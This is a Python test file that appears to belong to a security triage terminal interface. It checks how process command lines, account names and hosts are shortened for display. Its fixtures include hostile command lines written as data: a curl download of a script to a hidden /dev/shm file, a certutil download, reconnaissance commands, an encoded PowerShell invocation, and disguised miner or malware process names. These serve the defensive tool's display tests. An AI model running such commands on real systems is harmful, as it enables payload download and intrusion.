"""Commands short enough for a line: what goes, what stays, and what no text may do."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine.paths import fold
from tests.tui.test_sentences import ACTS
from tui.words.spans import cells, text_of
from tui.words.triage.commands import account, command_spans, plain_name, short_host
from tui.words.triage.finding_row import cut
from tui.words.words import base

WINDOWS = "C:\\Windows\\System32\\"
SHOWN = [
    (f"{WINDOWS}cmd.exe", f"{WINDOWS}cmd.exe /c whoami /all", "cmd: whoami /all"),
    (f"{WINDOWS}cmd.exe", 'cmd.exe /q /c "net user"', "cmd: net user"),
    (f"{WINDOWS}cmd.exe", 'cmd /c "reg add "HKLM\\A B" /f"', 'cmd: reg add "HKLM\\A B" /f'),
    ("/usr/bin/dash", "sh -c 'a' 'b'", "sh: 'a' 'b'"),
    (f"{WINDOWS}certutil.exe", "certutil -urlcache -f http://x/a a", "certutil -urlcache -f http://x/a a"),
    ("/usr/bin/dash", "sh -c 'curl -s http://192.0.2.7/x.sh -o /dev/shm/.x'", "sh: curl -s http://192.0.2.7/x.sh -o /dev/shm/.x"),
    ("/usr/bin/bash", "/bin/bash -lc id", "bash: id"),
    ("/usr/bin/bash", "bash -i", "bash -i"),
    ("/usr/bin/curl", "/usr/bin/curl -c jar http://x", "curl -c jar http://x"),
    ("/dev/shm/.x", "/dev/shm/.x", "/dev/shm/.x"),
    ("/tmp/.cache/kswapd0", "./kswapd0 -o pool", "/tmp/.cache/kswapd0 -o pool"),
    ("/dev/shm/kworker", "[kworker/u8:2]", "[kworker/u8:2] (/dev/shm/kworker)"),
    ("C:\\ProgramData\\Acme\\bin\\scvhost.exe", '"C:\\ProgramData\\Acme\\bin\\scvhost.exe" -k netsvcs',
     "C:\\ProgramData\\…\\scvhost.exe -k netsvcs"),
    ("C:\\Windows\\Temp\\SP1\\x\\Setup.exe", "Setup.exe /q", "C:\\Windows\\Temp\\…\\Setup.exe /q"),
    (f"{WINDOWS}powershell.exe", f"powershell.exe -enc {'SQBFAFgA' * 8}", "powershell.exe -enc SQBFAFgA…(64)"),
    ("/usr/bin/ls", f"ls /{'/'.join(['directory'] * 8)}", f"ls /{'/'.join(['directory'] * 8)}"),
    ("/usr/bin/ls", None, "ls"),
    ("", "whoami /all", "whoami /all"),
    ("", None, "?"),
]  # fmt: skip


@pytest.mark.parametrize(("image", "command_line", "shown"), SHOWN)
def test_a_command_is_shortened_by_these_rules_and_no_others(image: str, command_line: str | None, shown: str) -> None:
    spans = command_spans(image, fold(image), command_line)
    assert text_of(spans) == shown
    assert spans[0][1] == "strong"
    assert {role for _, role in spans[1:]} <= {"", "dim"}


@given(st.text(max_size=60), st.none() | st.text(max_size=300), st.integers(0, 60))
def test_no_text_acts_or_is_wider_than_its_room(image: str, command_line: str | None, width: int) -> None:
    spans = command_spans(image, fold(image), command_line)
    shown = text_of(cut(spans, width))
    assert cells(shown) <= width
    assert not ACTS.search(text_of(spans))
    assert text_of(spans).strip()


@pytest.mark.parametrize(("image", "command_line", "shown"), SHOWN)
@pytest.mark.parametrize("spare", [0, 1, 7])
def test_of_a_program_the_directory_is_cut_and_never_the_name(
    image: str, command_line: str | None, shown: str, spare: int
) -> None:
    spans = command_spans(image, fold(image), command_line)
    name = base(spans[0][0])
    kept = cut(spans, cells(name) + 1 + spare)
    assert kept[0][0].endswith(name)
    assert kept[0][0].count("…") <= 2


def test_names_without_what_says_nothing() -> None:
    assert (plain_name("c:\\office\\WINWORD.EXE"), plain_name("/usr/sbin/php-fpm"), plain_name(".exe")) == (
        "WINWORD", "php-fpm", ".exe",
    )  # fmt: skip
    assert (account("CORP\\anna"), account("anna@corp.example.com"), account(None), account("\x1b[2J")) == (
        "anna", "anna", "", "\\e[2J",
    )  # fmt: skip
    assert (short_host("web01.corp.example.com"), short_host("192.0.2.7"), short_host("fe80::1")) == (
        "web01",
        "192.0.2.7",
        "fe80::1",
    )
